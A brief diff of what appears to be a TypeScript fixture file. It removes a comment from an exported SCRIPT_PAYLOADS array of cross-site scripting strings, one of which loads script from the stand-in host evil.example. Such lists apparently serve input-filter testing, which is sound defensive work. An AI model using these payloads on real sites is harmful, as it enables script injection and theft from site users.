@@ -1,4 +1,3 @@
-/** Known attempts at script injection. */
 export const SCRIPT_PAYLOADS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
